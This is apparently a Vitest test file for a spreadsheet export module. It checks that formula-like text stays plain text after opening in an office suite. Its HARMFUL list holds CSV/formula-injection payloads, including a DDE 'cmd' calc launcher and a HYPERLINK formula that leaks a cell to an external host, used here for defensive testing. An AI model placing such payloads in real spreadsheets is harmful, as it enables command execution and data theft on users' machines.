import ExcelJS from "exceljs";
import { beforeAll, expect, test } from "vitest";
import { addOfficialSheet, newWorkbook, workbookBytes } from "@/lib/core/official-sheet";
import { type Column, listSheet } from "@/lib/core/sheet";
import { openArchive, unpack } from "@/lib/core/unzip";
import { readWorkbook } from "@/lib/core/workbook";
import { makeTemplate } from "@/lib/imports/queries";
import { REGISTER_FORMS } from "@/lib/templates/labels";
import { readForms } from "@/lib/templates/rules";
import { faultWorkbook } from "@/lib/templates/sheet";
import { actorOf, fixDay } from "@/tests/support/cast";
import { throughOffice } from "@/tests/support/soffice";

/** What a spreadsheet may take for a formula, as people type it or as somebody means harm. */
const HARMFUL = [
  "=1+1",
  '=HYPERLINK("http://x.example/"&A1;"x")',
  "+84 912 345 678",
  "+1+1",
  "-5+3",
  "@SUM(1;2)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];
/** XML keeps tabs and line ends or turns them into spaces; what counts is that the words stay words. */
const bare = (value: unknown) =>
  String(value)
    .replace(/_x000D_|[\r\n\t]/g, "")
    .trim();

type Row = { name: string };
const columns: Column<Row>[] = [{ header: "Tên", width: 40, kind: "text", value: ({ name }) => name }];
const rows = HARMFUL.map((name) => ({ name }));
let saved: Record<string, ExcelJS.Workbook>;

beforeAll(async () => {
  await fixDay("2021-05-05");
  const paper = newWorkbook(new Date("2021-05-05T03:00:00Z"));
  await addOfficialSheet(paper, {
    tab: "Biểu",
    heading: null,
    title: HARMFUL[0] ?? "",
    subject: HARMFUL[3] ?? "",
    lines: HARMFUL,
    columns,
    rows,
    notes: HARMFUL,
    recipients: HARMFUL,
    signature: { title: HARMFUL[5] ?? "", name: HARMFUL[0] ?? "" },
  });
  const shown = HARMFUL.map((name) => ({ form: "DONORS", shown: { name }, words: name }));
  const form = { ...REGISTER_FORMS.DONORS[0], key: "DONORS" };
  const back = throughOffice({
    list: await listSheet({
      tab: "Danh sách",
      title: HARMFUL[0] ?? "",
      unit: HARMFUL[3] ?? "",
      who: HARMFUL[5] ?? "",
      when: new Date("2021-05-05T03:00:00Z"),
      filters: HARMFUL,
      columns,
      rows,
    }),
    faults: await faultWorkbook([form], shown),
    paper: await workbookBytes(paper),
  });
  saved = {};
  for (const [name, bytes] of Object.entries(back)) {
    saved[name] = await new ExcelJS.Workbook().xlsx.load(Uint8Array.from(bytes).buffer);
  }
}, 180_000);

// "Text cells that begin with =, +, -, @ never become formulas in exports" (issue 3, 10).
test.each(["list", "faults", "paper"])(
  "in a %s of ours, opened and saved by an office, words stay words",
  (name) => {
    const texts: string[] = [];
    for (const sheet of saved[name]?.worksheets ?? [])
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect([cell.address, cell.type]).not.toEqual([cell.address, ExcelJS.ValueType.Formula]);
          expect([cell.address, cell.type]).not.toEqual([cell.address, ExcelJS.ValueType.Hyperlink]);
          texts.push(bare(cell.text));
        }),
      );
    for (const words of HARMFUL) expect(texts).toContain(bare(words));
  },
);

test("the templates open in an office with their drop-downs, and read back as nothing filled in", async () => {
  const books: Record<string, Uint8Array> = {};
  const makers = {
    DOSSIERS: "an",
    APPROVED_DOSSIERS: "dung",
    LEADERS: "an",
    DONORS: "an",
    UNITS: "lam",
  } as const;
  for (const [kind, name] of Object.entries(makers)) {
    const made = await makeTemplate(await actorOf(name), kind as keyof typeof makers);
    books[kind] = made?.bytes ?? new Uint8Array();
  }
  const back = throughOffice(books);
  for (const kind of Object.keys(makers)) {
    const book = await new ExcelJS.Workbook().xlsx.load(Uint8Array.from(back[kind] ?? []).buffer);
    const lists = book.worksheets.flatMap((sheet) => {
      const { model } = (
        sheet as unknown as { dataValidations: { model: Record<string, ExcelJS.DataValidation> } }
      ).dataValidations;
      return Object.values(model).flatMap(({ type, formulae }) =>
        type === "list" ? [String(formulae[0])] : [],
      );
    });
    expect([kind, lists.length > 0]).toEqual([kind, true]);
    for (const words of lists) expect(words).toMatch(/'?Danh mục'?!?\.?\$[A-Z]+\$2:/);
  }
  const read = readForms(await readWorkbook(Uint8Array.from(back.LEADERS ?? [])), REGISTER_FORMS.LEADERS);
  expect(read).toMatchObject({ problem: null, read: [{ parts: [], unresolved: [] }] });
  const ods = throughOffice({ LEADERS: books.LEADERS ?? new Uint8Array() }, "ods");
  const archive = await openArchive(Uint8Array.from(ods.LEADERS ?? []));
  let content = "";
  for await (const part of unpack(archive, "content.xml")) content += part.toString();
  expect(content).toContain("content-validation");
});
